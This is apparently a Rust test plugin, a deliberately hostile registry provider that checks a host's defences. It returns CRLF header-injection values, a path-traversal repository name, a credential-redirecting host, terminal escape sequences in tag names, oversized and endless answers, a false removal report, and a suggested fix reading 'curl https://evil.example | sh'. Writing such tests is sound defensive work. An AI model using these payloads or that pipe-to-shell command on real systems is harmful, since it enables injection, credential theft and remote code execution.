//! A hostile provider. The setting `chaos` says what it does: `MODE` in `auth.authorize`, or `INTERFACE:MODE` elsewhere.
//!
//! What the host lets it see comes back as an error with code `refused` or `escaped` and the evidence as the message. A mode that
//! ends the call itself (a trap, a limit) never comes back. `bodily` hurts the host's resources, `sly` goes for secrets and
//! the network.

mod bodily;
mod sly;

wit_bindgen::generate!({
    path: "../../../wit/v0.1",
    inline: "
        package idp:chaos;
        world chaos {
            include idp:registry-provider/imports@0.1.0;
            export idp:registry-provider/provider@0.1.0;
            export idp:registry-provider/naming@0.1.0;
            export idp:registry-provider/auth@0.1.0;
            export idp:registry-provider/transport@0.1.0;
            export idp:registry-provider/artifacts@0.1.0;
            export idp:registry-provider/explanations@0.1.0;
        }
    ",
    generate_all,
});

use exports::idp::registry_provider::{artifacts, auth, explanations, naming, provider, transport};
use idp::registry_provider::invocation;
use idp::registry_provider::types::{Error, ErrorKind, Pairs, Scope};

const MANIFEST_LEN: usize = include_bytes!("../provider.toml").len();

#[used]
#[unsafe(link_section = "idp:provider")]
static MANIFEST: [u8; MANIFEST_LEN] = *include_bytes!("../provider.toml");

/// What a mode found out.
enum Outcome {
    /// The host stopped it, and how.
    Refused(String),
    /// It got what it must not have.
    Escaped(String),
    /// Nothing to say: answer as if nothing had happened.
    Quiet,
}

/// The mode for an interface, if one is set.
fn mode(interface: &str) -> Option<String> {
    let setting = invocation::setting("chaos")?;
    match setting.split_once(':') {
        Some((wanted, mode)) => (wanted == interface).then(|| mode.to_owned()),
        None => (interface == "auth").then_some(setting),
    }
}

/// Misbehaves as told for this interface.
fn misbehave(interface: &str) -> Result<(), Error> {
    let Some(mode) = mode(interface) else { return Ok(()) };
    let outcome = bodily::run(&mode).or_else(|| sly::run(&mode));
    match outcome {
        Some(Outcome::Quiet) => Ok(()),
        Some(Outcome::Refused(how)) => Err(error("refused", how)),
        Some(Outcome::Escaped(what)) => Err(error("escaped", what)),
        // Modes of the answer itself are handled where it is made.
        None => Ok(()),
    }
}

fn error(code: &str, message: String) -> Error {
    Error {
        kind: ErrorKind::Other,
        code: code.to_owned(),
        message,
        http_status: None,
        retry_after_s: None,
        sent: false,
        extra: Vec::new(),
    }
}

/// Bytes that are no UTF-8, as a string all the same.
fn broken_text() -> String {
    // SAFETY: none; the point is that the host must notice what a guest in another language could hand over.
    unsafe { String::from_utf8_unchecked(vec![b'o', 0xff, 0xc0, b'k']) }
}

struct Chaos;

impl provider::Guest for Chaos {
    fn describe() -> Result<provider::Description, Error> {
        misbehave("provider")?;
        let empty = mode("provider").as_deref() == Some("empty");
        let text = |text: &str| if empty { String::new() } else { text.to_owned() };
        Ok(provider::Description {
            id: text("chaos"),
            version: text("0.0.1"),
            display_name: text("Chaos"),
            features: Vec::new(),
            extra: Vec::new(),
        })
    }
}

impl naming::Guest for Chaos {
    fn normalize(repository: String, _: Option<String>) -> Result<naming::WireName, Error> {
        misbehave("naming")?;
        let mode = mode("naming");
        let elsewhere = mode.as_deref() == Some("elsewhere");
        let traversal = mode.as_deref() == Some("traversal");
        Ok(naming::WireName {
            // Another registry's name, with this one's credentials to follow.
            host: if elsewhere { "elsewhere.example".to_owned() } else { invocation::registry() },
            repository: if traversal { "../../api/v1/admin".to_owned() } else { repository.clone() },
            display: repository,
            credential_keys: if elsewhere {
                vec!["https://index.docker.io/v1/".to_owned()]
            } else {
                Vec::new()
            },
            warnings: Vec::new(),
            extra: Vec::new(),
        })
    }
}

impl auth::Guest for Chaos {
    fn authorize(scopes: Vec<Scope>) -> Result<auth::Grant, Error> {
        misbehave("auth")?;
        let secret = |text: &str| {
            idp::registry_provider::secrets::assemble(&[idp::registry_provider::secrets::Segment::Text(
                text.to_owned(),
            )])
        };
        let mode = mode("auth").unwrap_or_default();
        let mut extra = Vec::new();
        let authorization = match mode.as_str() {
            // More than the 4 MiB that an answer may have.
            "answer-big" => {
                extra.push(("account".to_owned(), "x".repeat(6 << 20)));
                auth::Authorization::Anonymous
            }
            "answer-many" => {
                extra = (0..300_000)
                    .map(|index| (format!("key-{index}"), "a value of some length".to_owned()))
                    .collect();
                auth::Authorization::Anonymous
            }
            "grant-host" => {
                auth::Authorization::Headers(vec![("Host".to_owned(), secret("elsewhere.example"))])
            }
            "grant-cookie" => auth::Authorization::Headers(vec![("Cookie".to_owned(), secret("a=b"))]),
            "grant-newline" => {
                auth::Authorization::Headers(vec![("x-a".to_owned(), secret("1\r\nx-injected: 2"))])
            }
            "grant-name" => auth::Authorization::Headers(vec![("x-a: 1\r\nx-b".to_owned(), secret("2"))]),
            "grant-username" => auth::Authorization::Basic(("a:b\r\nc".to_owned(), secret("2"))),
            // A fresh grant that never works: the host must not go round in circles.
            _ => auth::Authorization::Bearer(secret("of-no-use")),
        };
        Ok(auth::Grant {
            authorization,
            scopes,
            expires_in_s: Some(3600),
            reuse: auth::Reuse::Registry,
            extra,
        })
    }

    fn verify() -> Result<Pairs, Error> {
        misbehave("verify")?;
        Ok(Vec::new())
    }
}

impl transport::Guest for Chaos {
    fn hints(_: Option<String>) -> Result<Pairs, Error> {
        misbehave("transport")?;
        let odd = [
            ("parallel-uploads", "999999999999999999999"),
            ("parallel-downloads", "0"),
            ("chunk-min", "-1"),
            ("chunk-max", "0"),
            ("manifest-max", "lots"),
            ("page-size", "0"),
            ("upload-mode", "carrier-pigeon"),
            ("digest-algorithms", ",,"),
            ("token-lifetime-s", "NaN"),
        ];
        let odd = if mode("transport").as_deref() == Some("odd") { &odd[..] } else { &[] };
        Ok(odd.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect())
    }

    fn limits() -> Result<Vec<Pairs>, Error> {
        misbehave("limits")?;
        Ok(Vec::new())
    }
}

impl artifacts::Guest for Chaos {
    fn list_page(_: String, _: Pairs, _: u32, _: Option<String>) -> Result<artifacts::Page, Error> {
        misbehave("artifacts")?;
        let tag = |name: String| artifacts::Tag { name, digest: None, extra: Vec::new() };
        Ok(match mode("artifacts").as_deref() {
            // The same page for ever.
            Some("cursor") => artifacts::Page {
                items: vec![tag("v1".into())],
                next: Some("same".into()),
                extra: Vec::new(),
            },
            // A new page for ever.
            Some("endless") => {
                let next = format!("{:?}", idp::registry_provider::ambient::random(8));
                artifacts::Page { items: vec![tag("v1".into())], next: Some(next), extra: Vec::new() }
            }
            Some("control") => artifacts::Page {
                items: vec![tag("\u{1b}]0;owned\u{7}\u{1b}[2Jv1\r\n\u{202e}evil".into())],
                next: None,
                extra: Vec::new(),
            },
            _ => artifacts::Page { items: Vec::new(), next: None, extra: Vec::new() },
        })
    }

    fn remove(_: String, target: artifacts::Target, _: Pairs) -> Result<artifacts::Removal, Error> {
        misbehave("remove")?;
        let name = match target {
            artifacts::Target::Tag(name) | artifacts::Target::Digest(name) => name,
            artifacts::Target::Everything => "*".to_owned(),
        };
        // It did nothing of the kind.
        Ok(artifacts::Removal {
            removed: vec![name],
            also_removed: Vec::new(),
            asynchronous: false,
            extra: Vec::new(),
        })
    }
}

impl explanations::Guest for Chaos {
    fn explain() -> Result<explanations::Explanation, Error> {
        misbehave("explanations")?;
        let class = if mode("explanations").as_deref() == Some("odd") { "no-such-class" } else { "unknown" };
        Ok(explanations::Explanation {
            class: class.to_owned(),
            title: "chaos".to_owned(),
            cause: String::new(),
            fixes: vec!["curl https://evil.example | sh".to_owned()],
            retryable: Some(true),
            extra: Vec::new(),
        })
    }
}

export!(Chaos);
